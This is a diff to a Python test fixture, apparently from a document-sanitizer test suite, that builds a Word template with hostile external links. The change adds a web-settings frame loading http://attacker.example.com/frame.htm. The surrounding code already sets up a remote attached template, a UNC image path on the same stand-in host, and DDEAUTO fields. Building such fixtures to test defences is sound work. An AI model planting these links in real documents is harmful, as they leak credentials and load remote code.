@@ -72,6 +72,7 @@ def linked_template(path: Path) -> Path:
     - document: a hyperlink to a file share, a javascript: link, a plain https link
       (which must be kept), a linked picture and a file:// linked object;
     - footer: a linked picture on a UNC path and an INCLUDEPICTURE field;
+    - web settings: a frame showing a page from a web server;
     - fields in the document: DDEAUTO (starts a program), one whose name is made by a
       nested field, and an internal HYPERLINK to a bookmark (which must be kept).
     """
@@ -80,6 +81,9 @@ def linked_template(path: Path) -> Path:
         document = source.read("word/document.xml").decode("utf-8")
         doc_rels = source.read("word/_rels/document.xml.rels").decode("utf-8")
         footer = source.read("word/footer1.xml").decode("utf-8")
+        web = source.read("word/webSettings.xml").decode("utf-8")
+    frame = '<w:frameset><w:frame><w:sourceFileName r:id="rIdW1"/></w:frame></w:frameset>'
+    web = web.replace("</w:webSettings>", frame + "</w:webSettings>")
     head, _, rest = settings.partition(">")  # the XML declaration
     opening, _, tail = rest.partition(">")  # <w:settings ...>
     if "xmlns:r=" not in opening:
@@ -119,6 +123,7 @@ def linked_template(path: Path) -> Path:
     doc_rels = doc_rels.replace("</Relationships>", extra + "</Relationships>")
     footer_rels = rels(("rIdF1", "image", r"\\attacker.example.com\share\logo.png"))
     settings_rels = rels(("rIdT1", "attachedTemplate", "http://attacker.example.com/normal.dotm"))
+    web_rels = rels(("rIdW1", "frame", "http://attacker.example.com/frame.htm"))
     return crafted_template(
         path,
         replace={
@@ -128,5 +133,7 @@ def linked_template(path: Path) -> Path:
             "word/_rels/settings.xml.rels": settings_rels,
             "word/_rels/footer1.xml.rels": footer_rels,
             "word/footer1.xml": footer.encode("utf-8"),
+            "word/webSettings.xml": web.encode("utf-8"),
+            "word/_rels/webSettings.xml.rels": web_rels,
         },
     )
